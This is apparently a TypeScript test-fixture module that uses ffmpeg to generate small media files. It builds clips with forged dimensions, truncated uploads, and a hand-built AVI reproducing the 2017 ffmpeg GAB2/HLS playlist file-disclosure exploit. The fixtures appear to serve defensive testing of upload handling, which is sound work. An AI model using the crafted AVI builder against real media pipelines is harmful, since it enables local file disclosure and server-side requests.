import { execFile } from 'node:child_process'
import fs from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'
import { resolveFfmpeg } from '../resolve-binary'

// Real, tiny media files made with ffmpeg for tests: ≤ 2 s, 64×48, so the suite stays fast.

const run = promisify(execFile)

export async function tempFolder(): Promise<{ dir: string; cleanup: () => Promise<void> }> {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'storyreel-ffmpeg-'))
  return { dir, cleanup: () => fs.rm(dir, { recursive: true, force: true }) }
}

export interface ClipOptions {
  /** lavfi video source; testsrc at 64×48, 24 fps, 1 s by default; null for a sound-only file. */
  video?: string | null
  /** lavfi audio source, e.g. "sine=d=1"; none by default. */
  audio?: string
  /** Encoder arguments; H.264 by default. */
  codecArgs?: string[]
}

export async function makeClip(file: string, options: ClipOptions = {}): Promise<string> {
  const { video = 'testsrc=s=64x48:r=24:d=1', audio, codecArgs = ['-c:v', 'libx264', '-preset', 'ultrafast', '-pix_fmt', 'yuv420p'] } = options
  const inputs = [...(video ? ['-f', 'lavfi', '-i', video] : []), ...(audio ? ['-f', 'lavfi', '-i', audio] : [])]
  await run(resolveFfmpeg().path, ['-hide_banner', '-loglevel', 'error', '-y', ...inputs, ...codecArgs, ...(video && audio ? ['-shortest'] : []), file])
  return file
}

/** A 16×16 raw-video MOV whose sample description is rewritten to declare width × height (up to 65535 each). */
export async function makeClipDeclaring(file: string, width: number, height: number): Promise<string> {
  await makeClip(file, { video: 'testsrc=s=16x16:r=10:d=0.2', codecArgs: ['-c:v', 'rawvideo', '-pix_fmt', 'rgb24'] })
  const bytes = await fs.readFile(file)
  // stsd box: type, version+flags, entry count, then the entry: size, format, 6 reserved, data ref, version,
  // revision, vendor, temporal and spatial quality, then width and height (16 bits each).
  const stsd = bytes.indexOf('stsd')
  if (stsd < 0) throw new Error('no stsd box in the raw clip')
  bytes.writeUInt16BE(width, stsd + 44)
  bytes.writeUInt16BE(height, stsd + 46)
  await fs.writeFile(file, bytes)
  return file
}

/** The first `keep` bytes of a file, as an upload cut short would leave it. */
export async function truncateCopy(source: string, target: string, keep: number): Promise<string> {
  const bytes = await fs.readFile(source)
  await fs.writeFile(target, bytes.subarray(0, keep))
  return target
}

/**
 * The AVI trick from the 2017 ffmpeg file-disclosure reports: a subtitle stream whose first packet is a GAB2
 * "embedded subtitle file" holding an HLS playlist, then a run of filler packets. Older ffmpeg probed that payload
 * with every demuxer, so the playlist's entries (URLs, local files) were fetched while the "video" was read.
 */
export async function makeGab2PlaylistAvi(file: string, playlist: string): Promise<string> {
  const chunk = (id: string, data: Buffer) => {
    const header = Buffer.alloc(8)
    header.write(id, 0, 'latin1')
    header.writeUInt32LE(data.length, 4)
    return Buffer.concat([header, data, Buffer.alloc(data.length % 2)])
  }
  const list = (type: string, ...children: Buffer[]) => chunk('LIST', Buffer.concat([Buffer.from(type, 'latin1'), ...children]))
  const u32 = (...values: number[]) => Buffer.concat(values.map((value) => Buffer.from(new Uint32Array([value]).buffer)))
  // avih: µs per frame, max bytes/s, padding, flags (has index), frames, initial frames, streams, buffer, 224×160.
  const avih = chunk('avih', u32(40_000, 0, 0, 0x10, 125, 0, 1, 0, 224, 160, 0, 0, 0, 0))
  // strh for a 'txts' (subtitle) stream at 25 per second, 125 long; strf as the original exploit wrote it.
  const strh = chunk('strh', Buffer.concat([Buffer.from('txts', 'latin1'), Buffer.alloc(4), u32(0, 0, 0, 1, 25, 0, 125, 0, 10_000, 0), Buffer.alloc(8)]))
  const strf = chunk('strf', Buffer.concat([u32(40, 224, 160), Buffer.from([1, 0, 24, 0]), Buffer.from('XVID', 'latin1'), u32(0, 0, 0, 0, 0)]))
  // GAB2 packet: tag, version 2, empty name (u32 length 0), u16 type, u32 size, then the "subtitle file".
  const gab2 = Buffer.concat([Buffer.from('GAB2\0', 'latin1'), Buffer.from([2, 0]), Buffer.alloc(10), Buffer.from(playlist)])
  const packets = [chunk('00tx', gab2), ...Array.from({ length: 50 }, () => chunk('00dc', Buffer.alloc(200)))]
  const avi = chunk('RIFF', Buffer.concat([Buffer.from('AVI ', 'latin1'), list('hdrl', avih, list('strl', strh, strf)), list('movi', ...packets)]))
  await fs.writeFile(file, avi)
  return file
}
